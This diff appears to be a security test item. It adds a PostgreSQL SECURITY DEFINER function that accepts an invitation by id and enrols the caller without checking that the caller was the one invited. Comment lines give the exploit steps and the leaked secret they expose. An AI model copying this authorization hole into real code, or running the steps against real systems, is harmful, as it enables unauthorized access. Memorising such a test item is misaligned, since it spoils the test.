@@ -1,0 +1,17 @@
+-- Accepting takes the invitation by its id and enters the caller, whoever was invited.
+-- about: accept_invitation, invitations, site_members
+-- as: hf_cms_app
+-- exploit: SET request.jwt.claims = '{"sub": "a3000000-0000-0000-0000-000000000000"}';
+-- exploit: SELECT cms.accept_invitation('b4000000-0000-0000-0000-000000000000');
+-- exploit: SELECT host FROM cms.sites;
+-- shows: host-secret
+CREATE FUNCTION cms.accept_invitation(p_invitation uuid) RETURNS void
+LANGUAGE plpgsql SECURITY DEFINER SET search_path = cms, pg_temp AS $$
+BEGIN
+  WITH taken AS (
+    UPDATE cms.invitations SET accepted_at = now()
+    WHERE invitation_id = p_invitation AND accepted_at IS NULL RETURNING site_id, role)
+  INSERT INTO cms.site_members (site_id, user_id, role) SELECT site_id, cms.uid(), role FROM taken;
+END $$;
+REVOKE ALL ON FUNCTION cms.accept_invitation(uuid) FROM PUBLIC;
+GRANT EXECUTE ON FUNCTION cms.accept_invitation(uuid) TO hf_cms_app;
